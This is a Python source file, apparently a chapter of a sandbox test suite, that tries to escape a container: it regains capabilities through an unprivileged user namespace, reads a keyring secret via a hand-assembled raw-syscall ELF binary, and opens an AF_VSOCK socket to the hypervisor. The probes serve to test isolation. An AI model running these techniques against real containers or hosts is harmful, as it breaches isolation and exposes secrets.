"""The attack of chapter 10: calls that need no power, and reach what is shared by all.

Chapter 09 has taken root's great powers. The kernel's four hundred calls are all still there. A
program of three instructions a call is brought along, for there is no command for some of them.
"""

from __future__ import annotations

import ctypes
import os
import struct
from errno import EAFNOSUPPORT, ENODEV
from pathlib import Path

from chapters.ground import Ground, Missing

# <asm/unistd.h>: x86-64, aarch64
NUMBERS = {
    "write": (1, 64), "exit_group": (231, 94), "socket": (41, 198),
    "add_key": (248, 217), "keyctl": (250, 219),
}  # fmt: skip
ARM = os.uname().machine == "aarch64"

# keyctl(2): the keys of the user, whose number inside is that of the host's user.
USER_KEYRING, UNLINK, SEARCH, READ = -4, 9, 10, 11
AF_VSOCK = 40


def regain_all_powers(ground: Ground) -> bool:
    """become root of a new user namespace, which has all powers there, and mount"""
    if not Path("/proc/self/ns/user").exists():
        raise Missing("this kernel has no user namespaces")
    script = """
        mkdir -p /tmp/mine
        unshare -U -r -m sh -c 'mount -t tmpfs none /tmp/mine && echo mounted'
    """
    return "mounted" in ground.run(script)


def read_a_key(ground: Ground) -> bool:
    """read a secret that the host's root keeps in the kernel's keyring"""
    name, secret = f"chapter-10-{os.getpid()}".encode(), b"the host's secret"
    libc = ctypes.CDLL(None, use_errno=True)
    add, control = (NUMBERS[call][ARM] for call in ("add_key", "keyctl"))
    key = libc.syscall(add, b"user", name, secret, len(secret), USER_KEYRING)
    if key < 0:
        raise Missing(f"this kernel keeps no keys: {os.strerror(ctypes.get_errno())}")
    try:
        thief = Program()
        kind, wanted, buffer = (
            thief.data(b"user\0"),
            thief.data(name + b"\0"),
            thief.data(bytes(64)),
        )
        thief.call("keyctl", SEARCH, USER_KEYRING, kind, wanted, 0)
        thief.call("keyctl", READ, LAST, buffer, 64)
        thief.call("write", 1, buffer, LAST)
        thief.call("exit_group", 0)
        thief.write(ground.rootfs / "bin" / "thief")
        return secret.decode() in ground.run("thief")
    finally:
        libc.syscall(control, UNLINK, key, USER_KEYRING)


def call_the_hypervisor(ground: Ground) -> bool:
    """open a socket to the hypervisor, which no network namespace holds back"""
    try:
        family = ctypes.CDLL(None, use_errno=True)
        descriptor = family.socket(AF_VSOCK, 1, 0)
        if descriptor < 0:
            raise OSError(ctypes.get_errno(), "socket")
        os.close(descriptor)
    except OSError as error:
        if error.errno in (EAFNOSUPPORT, ENODEV):
            raise Missing("this kernel has no AF_VSOCK") from None
        raise
    caller = Program()
    caller.call("socket", AF_VSOCK, 1, 0)
    caller.call("exit_group", LAST)
    caller.write(ground.rootfs / "bin" / "caller")
    # A descriptor is a small number; a refusal is -1, of which an exit code keeps 255.
    return "opened" in ground.run("caller; test $? -lt 128 && echo opened")


# What the call before returned, as an argument of the next one.
LAST = object()


# x86-64: movabs to the registers of the arguments and of the number (syscall(2)); mov from rax.
SET = {0: 0xBF48, 1: 0xBE48, 2: 0xBA48, 3: 0xBA49, 4: 0xB849, 5: 0xB949, -1: 0xB848}
COPY = {0: b"\x48\x89\xc7", 1: b"\x48\x89\xc6", 2: b"\x48\x89\xc2"}


class Program:
    """A static program that makes a few system calls and nothing else, put together by hand."""

    ADDRESS, HEADERS, ROOM = 0x400000, 64 + 56, 1024

    def __init__(self) -> None:
        self.code = b""
        self.stored = b""

    def data(self, content: bytes) -> int:
        """Where the content will lie in the program's memory."""
        self.stored += content
        return self.ADDRESS + self.ROOM + len(self.stored) - len(content)

    def call(self, name: str, *arguments: object) -> None:
        """Make a system call."""
        number = NUMBERS[name][ARM]
        # On arm the result lies where the first argument goes: it is taken away first.
        for place, argument in sorted(enumerate(arguments), key=lambda pair: pair[1] is not LAST):
            self.code += self.copy(place) if argument is LAST else self.set(place, argument)
        self.code += self.set(-1, number)
        self.code += struct.pack("<I", 0xD4000001) if ARM else b"\x0f\x05"  # svc 0; syscall

    def set(self, place: int, value: object) -> bytes:
        """Load a register with a number."""
        assert isinstance(value, int)
        if not ARM:
            return struct.pack("<HQ", SET[place], value & 2**64 - 1)
        register, words = place if place >= 0 else 8, struct.pack("<q", value)
        code = b""
        for step, (word,) in enumerate(struct.iter_unpack("<H", words)):
            code += struct.pack("<I", (0xF2800000 if step else 0xD2800000)
                                | step << 21 | word << 5 | register)  # fmt: skip
        return code

    def copy(self, place: int) -> bytes:
        """Load a register with what the last call returned."""
        if not ARM:
            return COPY[place]
        return struct.pack("<I", 0xAA0003E0 | place)  # mov xN, x0

    def write(self, path: Path) -> None:
        """Write the program: an ELF header, one segment, the code, the data (elf(5))."""
        size = self.ROOM + len(self.stored)
        segment = (1, 7, 0, self.ADDRESS, self.ADDRESS, size, size, 0x10000)
        header = struct.pack(
            "<16sHHIQQQIHHHHHH", b"\x7fELF\x02\x01\x01", 2, 183 if ARM else 62, 1,
            self.ADDRESS + self.HEADERS, 64, 0, 0, 64, 56, 1, 0, 0, 0,
        ) + struct.pack("<IIQQQQQQ", *segment)  # fmt: skip
        path.write_bytes((header + self.code).ljust(self.ROOM, b"\0") + self.stored)
        path.chmod(0o755)


ATTACKS = (regain_all_powers, read_a_key, call_the_hypervisor)
